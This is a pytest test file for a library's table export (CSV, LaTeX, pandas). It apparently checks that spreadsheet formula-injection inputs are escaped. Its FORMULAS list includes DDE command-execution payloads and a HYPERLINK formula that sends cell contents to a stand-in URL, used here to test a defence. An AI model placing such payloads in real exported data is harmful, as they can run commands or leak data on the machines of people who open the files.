"""Tables: texts that a spreadsheet would run as formulas stay texts, dtypes depend on no value, 0 has no sign."""

import csv
import io
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from layerprobe.errors import DataError, LayerProbeError
from layerprobe.results.table import Column, Table, csv_text, stacked

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "-",
    "-1e5x",
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_become_texts_in_cells_headers_and_tuples(formula: str) -> None:
    tamed = "'" + formula.replace("\r", "\n")
    text = csv_text((formula, "b"), [(formula, "b"), ((formula, "c"), "b")])
    assert rows(text) == [[tamed, "b"], [tamed, "b"], [f"{tamed} c", "b"]]


@pytest.mark.parametrize("number", ["-3", "+0.5", "-.5e-7", "-1.", "12"])
def test_numbers_in_words_stay(number: str) -> None:
    assert csv_text(("a",), [(number,)]) == f"a\n{number}\n"


@given(st.floats(allow_nan=False) | st.integers())
def test_numbers_stay(number: float) -> None:
    assert type(number)(csv_text(("a",), [(number,)]).split("\n")[1]) == number


@given(st.text())
def test_a_text_is_as_it_was_but_for_its_line_ends_and_one_apostrophe(text: str) -> None:
    ((first, cell),) = rows(csv_text((), [("", text)]).removeprefix("\n"))
    plain = text.replace("\r\n", "\n").replace("\r", "\n")
    assert (first, cell.removeprefix("'") if cell != plain else cell) == ("", plain)
    if cell == plain and plain.startswith(tuple("=+-@\t\n")):
        float(plain)


def test_columns_have_one_dtype_whether_or_not_their_values_are_known() -> None:
    kinds = {"mean": (None, 0.5), "flag": ("best", None), "ends": (None, (0.1, 0.2)), "none": (None, None)}
    frame = Table(columns=tuple(Column(name, kinds[name], interval=name == "ends") for name in kinds)).to_pandas()
    expected = {"mean": "float64", "flag": "string", "ends_low": "float64", "ends_high": "float64", "none": "float64"}
    assert frame.dtypes.astype(str).to_dict() == expected


def test_what_rounds_to_zero_has_no_sign() -> None:
    assert Column("a", (-0.00001, 0.00001, -0.2), form="+.4f").cells == ("+0.0000", "+0.0000", "-0.2000")
    assert Column("a", (-0.00001,), form=".3f").cells == ("0.000",)


@pytest.mark.parametrize("name", ["table.xlsx", "table", "table.csv.gz"])
def test_a_file_is_csv_or_parquet_and_named_so(tmp_path: Path, name: str) -> None:
    with pytest.raises(DataError, match=r"cannot save .*: use an ending of \.csv, \.parquet, \.pq, \.tex"):
        Table(columns=(Column("a", (1,)),)).save(tmp_path / name)


def test_a_column_stands_behind_one_that_there_is() -> None:
    table = Table(columns=(Column("a", (1,)), Column("c", (3,))))
    assert list(table.with_columns(Column("b", (2,)), after="a").data) == ["a", "b", "c"]


def test_a_column_is_titled_by_the_first_table_that_has_values_of_it() -> None:
    tables = [Table(columns=(Column("score", (value,), title),)) for value, title in ((None, "TMFT"), (1, "TMFT F1"))]
    assert stacked(tables).columns[0].head == "TMFT F1"


def test_a_column_has_one_format() -> None:
    assert Column("a", (1.58, 0.05608, -0.09663), form=".4g").cells == ("1.580", "0.056", "-0.097")


def test_latex_has_the_cells_of_screens_and_no_sign_that_old_fonts_lack(tmp_path: Path) -> None:
    names = Column("name", ("a_b & c", "50 %"), title="name")
    numbers = Column("p", (1.5, None), title="p < 1", form=".2f")
    table = Table(columns=(names, numbers), notes=("Over 3 seeds.",))
    written = table.save(tmp_path / "table.tex").read_text()
    assert written.startswith("% Over 3 seeds.\n\\begin{tabular}{lr}\n")
    assert "name & p \\textless{} 1 \\\\\n" in written
    assert "a\\_b \\& c & 1.50 \\\\\n50 \\% &  \\\\\n" in written


def test_latex_without_jinja2_is_one_clear_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "jinja2", None)
    with pytest.raises(LayerProbeError, match=r"^jinja2, .* is not installed: pip install jinja2$"):
        Table(columns=(Column("a", (1,)),)).save(tmp_path / "table.tex")
